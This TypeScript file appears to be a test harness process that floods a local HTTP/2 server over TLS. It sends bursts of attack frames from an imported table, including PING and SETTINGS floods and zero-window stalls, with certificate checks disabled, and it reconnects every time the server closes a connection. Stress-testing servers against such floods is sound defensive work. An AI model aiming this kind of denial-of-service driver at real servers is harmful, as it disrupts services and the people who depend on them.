/** A process that attacks until it is ended: `http2-attacker.ts PORT ATTACK PATH CONNECTIONS`. */
import { connect } from 'node:tls';
import { ACK, frame, PREFACE, settings, TYPE } from '../http2/wire.ts';
import { attacks } from './http2-attacks.ts';

const [port, name, path, connections] = process.argv.slice(2);
const attack = attacks[name!]!;
const SETTINGS_INITIAL_WINDOW_SIZE = 4;
const BURSTS_PER_TURN = 10;

function open(): void {
  const socket = connect({
    host: '127.0.0.1',
    port: Number(port),
    servername: 'localhost',
    rejectUnauthorized: false,
    ALPNProtocols: ['h2'],
  });
  let turn = 0;
  const send = (): void => {
    for (let i = 0; i < BURSTS_PER_TURN; i++) {
      const bytes = attack.burst(turn++, path!);
      if (bytes.length === 0) return;
      if (!socket.write(bytes)) {
        socket.once('drain', () => setImmediate(send));
        return;
      }
    }
    if (!socket.destroyed) setImmediate(send);
  };
  socket.once('secureConnect', () => {
    const window: (readonly [number, number])[] =
      name === 'zero windows' ? [[SETTINGS_INITIAL_WINDOW_SIZE, 0]] : [];
    socket.write(Buffer.concat([PREFACE, settings(...window), frame(TYPE.SETTINGS, ACK, 0)]));
    send();
  });
  // Floods of PING and SETTINGS are worst when nobody takes the answers.
  if (name !== 'zero windows') socket.resume();
  socket.on('error', () => {});
  // As soon as it is thrown out, it is back.
  socket.on('close', () => setImmediate(open));
}

for (let i = 0; i < Number(connections); i++) open();
